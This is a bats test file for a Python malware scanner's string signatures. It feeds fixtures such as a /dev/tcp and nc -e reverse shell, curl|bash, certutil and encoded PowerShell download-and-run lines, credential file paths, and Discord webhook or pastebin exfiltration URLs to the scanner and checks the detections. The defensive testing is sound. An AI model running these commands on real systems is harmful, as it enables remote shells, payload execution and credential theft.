#!/usr/bin/env bats
# 41-strings.bats: string signatures (rules.yaml `strings:`) over constants, bytes and f-strings.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; }

@test "WebhookEndpoint: a Discord webhook; not discord.com alone" {
	py m.py <<'PY'
H = "https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl"
S = "https://discord.com/invite/python"
PY
	run dets m.py WebhookEndpoint
	assert_output "1 WebhookEndpoint https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl import 120"
}

@test "PasteOrDropSite: pastebin raw and ngrok; not pastebin's home page" {
	py m.py <<'PY'
a = "https://pastebin.com/raw/abcd1234"
b = "https://abc-12.ngrok-free.app/x"
c = "see https://pastebin.com/ for notes"
PY
	run dets m.py PasteOrDropSite
	assert_output "$(printf '1 PasteOrDropSite pastebin.com/raw import 50\n2 PasteOrDropSite abc-12.ngrok-free.app import 50')"
}

@test "RawIPURL: a public address with the host; loopback and private ranges are not flagged" {
	py m.py <<'PY'
def f():
    return "http://192.0.2.10:8080/gate.php"
L = ["http://127.0.0.1:5000/", "http://10.0.0.1/", "http://192.168.1.1/"]
PY
	run dets m.py RawIPURL
	assert_output "2 RawIPURL http://192.0.2.10:8080/gate.php function 25"
}

@test "ExecutableURL: a URL ending in .exe; not a .exe.html page" {
	py m.py <<'PY'
u = "https://example.com/files/update.exe"
v = "https://example.com/update.exe.html"
PY
	run dets m.py ExecutableURL
	assert_output "1 ExecutableURL https://example.com/files/update.exe import 50"
}

@test "DownloadAndRun: curl|sh in an f-string, powershell -enc, certutil; not curl alone" {
	py setup.py <<'PY'
import os
os.system(f"curl -s {url} | bash")
p = "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
c = "certutil -urlcache -split -f http://example.com/a a.exe"
d = "curl --version"
PY
	run dets setup.py DownloadAndRun
	assert_line --index 0 "2 DownloadAndRun curl -s {} | bash install 100"
	assert_line --index 1 --partial "3 DownloadAndRun powershell -w hidden"
	assert_line --index 2 --partial "4 DownloadAndRun certutil -urlcache"
	assert_equal "${#lines[@]}" 3
}

@test "DownloadAndRun: powershell -EncodedCommand built at run time; not a plain powershell call" {
	py m.py <<'PY'
a = f"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {encoded}"
b = f"powershell.exe -File {script}"
c = f"powershell -enc {x} -NoProfile"
PY
	run dets m.py DownloadAndRun
	assert_line --index 0 --partial "1 DownloadAndRun powershell.exe -ExecutionPolicy Bypass -EncodedCommand {}"
	assert_line --index 1 --partial "3 DownloadAndRun powershell -enc {}"
	assert_equal "${#lines[@]}" 2
}

@test "ReverseShell: /bin/sh -i and nc -e; not a plain /bin/sh" {
	py m.py <<'PY'
a = "bash -c '/bin/sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
b = "nc -e /bin/sh 192.0.2.1 4444"
c = "/bin/sh"
PY
	run dets m.py ReverseShell
	assert_output "$(printf '1 ReverseShell /bin/sh -i import 120\n2 ReverseShell nc -e  import 120')"
}

@test "CredentialPath: ssh keys, browser Login Data, Discord leveldb; not .ssh/known_hosts" {
	py m.py <<'PY'
def steal():
    a = "~/.ssh/id_rsa"
    b = "Google/Chrome/User Data/Default/Login Data"
    c = "discord/Local Storage/leveldb"
    d = "~/.ssh/known_hosts"
PY
	run dets m.py CredentialPath
	assert_output "$(printf '2 CredentialPath .ssh/id_rsa function 15\n3 CredentialPath Google/Chrome/User Data function 15\n4 CredentialPath discord/ function 15')"
}

@test "Persistence: Run key and a ~/.bashrc write; not a *.bashrc file pattern" {
	py m.py <<'PY'
k = r"Software\Microsoft\Windows\CurrentVersion\Run"
b = "~/.bashrc"
g = ["*.bashrc", "*.zshrc"]
PY
	run dets m.py Persistence
	assert_output "$(printf '%s\n' '1 Persistence Software\Microsoft\Windows\CurrentVersion\Run import 40' '2 Persistence ~/.bashrc import 40')"
}

@test "AntiAnalysis: VM and debugger process names; not the word virtual" {
	py m.py <<'PY'
procs = ["vboxservice.exe", "wireshark.exe"]
x = "virtual environment"
PY
	run dets m.py AntiAnalysis
	assert_output "$(printf '1 AntiAnalysis vboxservice import 30\n1 AntiAnalysis wireshark import 30')"
}

@test "SecretInCode: an AWS key is reported redacted, the raw value only in 'secret'" {
	py m.py <<'PY'
KEY = "AKIAIOSFODNN7EXAMPLE"
NOT = "AKIA-not-a-key"
PY
	run bash -c "$(declare -f scan file_record); scan m.py | jq -c 'select(.type == \"hit\") | [.detection, .name, .secret, .tags, (.message | contains(\"IOSFODNN\"))]'"
	assert_output '["SecretInCode","AKIA…","AKIAIOSFODNN7EXAMPLE",["credential-access","import-time","secret"],false]'
}

@test "strings rule 'secret:' takes YAML booleans (yes, true, on); anything else is a load error" {
	py m.py <<'PY'
TOKEN = "tok_0123456789abcdef"
PY
	for word in yes true On; do
		cat >custom.yaml <<YAML
version: 1
strings:
  - {detection: Token, pattern: 'tok_[0-9a-f]{16}', secret: $word, category: c, severity: high, score: 50, message: "token {name}"}
YAML
		run bash -c "$(declare -f scan parse_stage file_record); scan m.py --rules custom.yaml | jq -c 'select(.type == \"hit\") | [.name, .secret]'"
		assert_output '["tok_…","tok_0123456789abcdef"]'
	done
	sed -i 's/secret: On/secret: no/' custom.yaml
	run bash -c "$(declare -f scan parse_stage file_record); scan m.py --rules custom.yaml | jq -c 'select(.type == \"hit\") | [.name, .secret]'"
	assert_output '["tok_0123456789abcdef",null]'
	sed -i 's/secret: no/secret: maybe/' custom.yaml
	run --separate-stderr aura-analyze --rules custom.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"custom.yaml:3:"*"secret: expected true or false"* ]] || fail "stderr: $stderr"
}

@test "HighEntropyString: long random blobs, one name per file (one finding); not English text" {
	python3 -c "
import random; r = random.Random(1)
blob = ''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/') for _ in range(600))
print('A = %r' % blob); print('B = %r' % blob[::-1])
print('T = %r' % ('the quick brown fox jumps over the lazy dog ' * 20))" >m.py
	run dets m.py HighEntropyString
	assert_output "$(printf '1 HighEntropyString high-entropy string import 10\n2 HighEntropyString high-entropy string import 10')"
}

@test "bytes constants are matched too; docstrings are not" {
	py m.py <<'PY'
"""Example: https://pastebin.com/raw/abcd1234"""
u = b"https://pastebin.com/raw/zzzz9999"
PY
	run dets m.py PasteOrDropSite
	assert_output "2 PasteOrDropSite pastebin.com/raw import 50"
}

@test "a strings rule needs pattern or entropy; a bad pattern is a clear error" {
	printf 'version: 1\nstrings:\n  - {detection: X, pattern: "a(b", category: c, severity: low, score: 1, message: m}\n' >bad.yaml
	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"bad.yaml:3:"*"pattern: missing closing parenthesis"* ]] || fail "stderr: $stderr"
	printf 'version: 1\nstrings:\n  - {detection: X, category: c, severity: low, score: 1, message: m}\n' >none.yaml
	run --separate-stderr aura-analyze --rules none.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"either 'pattern' or 'entropy'"* ]] || fail "stderr: $stderr"
}

@test "strings hidden as base64 are matched decoded (tag encoded); base64 of plain text is not a hit" {
	hook=$(printf 'https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl' | base64 -w0)
	plain=$(printf 'just some ordinary words here' | base64 -w0)
	printf 'H = "%s"\nP = "%s"\n' "$hook" "$plain" > m.py
	run dets m.py WebhookEndpoint
	assert_output "1 WebhookEndpoint https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl import 120"
	encoded() { scan m.py | jq -r 'select(.type == "hit") | (.tags | index("encoded") != null), .message'; }
	run -0 encoded
	assert_line --index 0 "true"
	assert_line --index 1 --partial ", hidden as base64"
}

@test "folded strings: what rewrite computed is matched once, where it was computed; a literal-free use is not" {
	py m.py <<'PY'
p = ''.join([chr(x) for x in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]])
q = '/etc/' + 'pass' + 'wd'
open(p)
open(q)
r = ''.join([chr(x) for x in [104, 111, 109, 101]])
PY
	run dets m.py CredentialPath
	assert_output "$(printf '1 CredentialPath /etc/passwd import 30\n2 CredentialPath /etc/passwd import 30')"
}
